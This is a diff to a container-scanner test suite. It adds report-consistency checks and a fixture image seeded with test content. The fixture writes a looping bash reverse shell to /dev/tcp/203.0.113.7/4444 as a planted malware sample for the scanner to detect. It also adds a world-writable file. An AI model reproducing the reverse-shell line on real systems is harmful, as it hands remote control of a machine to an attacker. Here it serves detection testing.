@@ -266,8 +266,33 @@ if (mode === 'sarif') {
 	// otherwise the SBOM: the same document but for the vulnerabilities, serial and time
 	if (sbomFile) {
 		const sbom = read(sbomFile);
+		// the image content findings: file components (cguard:file:N) and
+		// cguard:content:N:* properties, each checked against the JSON's content
+		const content = json.content || [];
+		const cprops = (o) => (o.properties || []).filter((p) => p.name.startsWith('cguard:content:'));
+		const files = (doc.components || []).filter((c) => String(c['bom-ref']).startsWith('cguard:file:'));
+		let nkinds = 0;
+		for (const o of [((doc.metadata || {}).component || {}), ...files])
+			for (const p of cprops(o)) {
+				const m = /^cguard:content:(\d+):(\w+)$/.exec(p.name) || [];
+				const c = content[Number(m[1])];
+				check(c, `${p.name}: no such content finding`);
+				if (!c) continue;
+				if (m[2] === 'kind') { nkinds++; check(p.value === c.kind, `${p.name} ${p.value}`); }
+				if (m[2] === 'rule') check(p.value === c.rule, `${p.name} ${p.value}`);
+				check(o.type !== 'file' || o.name === c.path, `${p.name} on ${o.name}, the finding's file is ${c.path}`);
+			}
+		check(nkinds === content.length, `${nkinds} content findings in CycloneDX, ${content.length} in JSON`);
 		const strip = (d) => { const c = { ...d, metadata: { ...d.metadata } }; delete c.vulnerabilities;
-			delete c.serialNumber; delete c.metadata.timestamp; return JSON.stringify(c); };
+			delete c.serialNumber; delete c.metadata.timestamp;
+			c.components = (c.components || []).filter((x) => !String(x['bom-ref']).startsWith('cguard:file:'))
+				.map((x) => ({ ...x }));
+			if (c.metadata.component) {
+				c.metadata.component = { ...c.metadata.component };
+				const kept = (c.metadata.component.properties || []).filter((p) => !p.name.startsWith('cguard:content:'));
+				if (kept.length) c.metadata.component.properties = kept; else delete c.metadata.component.properties;
+			}
+			return JSON.stringify(c); };
 		check(strip(doc) === strip(sbom), 'the document is not the SBOM of `image sbom -f cyclonedx`');
 	}
 }
@@ -344,6 +369,10 @@ dist "$r/opt/app/$site" cgdemo 1.5
 mkdir -p "$r/opt/my app:1/$site" && dist "$r/opt/my app:1/$site" cgother 0.1
 dist "$r/$site" Remarshal 0.14.0
 dist "$r/$site" cglog 2.14.1
+# image content for the reports too: a reverse-shell script (malware, with hashes) and a
+# world-writable file (baseline), both file components in CycloneDX
+mkdir -p "$r/usr/local/bin" && printf '#!/bin/bash\nwhile true; do\n  bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n  sleep 60\ndone\n' >"$r/usr/local/bin/keepalive.sh"
+printf 'x\n' >"$r/usr/local/bin/notes.txt" && chmod 0666 "$r/usr/local/bin/notes.txt"
 layer "$r" "$T_TMP/deb.tar"
 oci_layout "$T_TMP/deboci" deb11 "$T_TMP/deb.tar"
 
@@ -394,6 +423,12 @@ check_eq "deb: cglog, KEV" "$(jq -c '[.findings[] | select(.id == "CVE-2021-4422
 check_eq "deb: cgother from CVSS v4.0" \
 	"$(jq -c '[.findings[] | select(.id == "PYSEC-2099-1") | [.cvss_score, .status]]' "$T_TMP/deb.json")" '[[8.7,"unfixed"]]'
 check "alp: has findings" test "$(jq '.findings | length' "$T_TMP/alp.json")" -gt 0
+check_eq "deb: the content findings the reports must carry" \
+	"$(jq -r '[.content[] | select(.path) | "\(.kind):\(.path)"] | sort | join(" ")' "$T_TMP/deb.json")" \
+	"baseline:/usr/local/bin/notes.txt malware:/usr/local/bin/keepalive.sh"
+check_eq "deb: CycloneDX: the malware file a component with its SHA-256" \
+	"$(jq -r '.components[] | select(.name == "/usr/local/bin/keepalive.sh") | "\(.type) \(.hashes[] | select(.alg == "SHA-256") | .content)"' "$T_TMP/deb.cdx.json")" \
+	"file $(jq -r '.content[] | select(.kind == "malware") | .sha256' "$T_TMP/deb.json")"
 
 # ---- validated --------------------------------------------------------------------------------
 validated() { # validated MODE REPORT JSON [SBOM]: the checker's verdict on REPORT
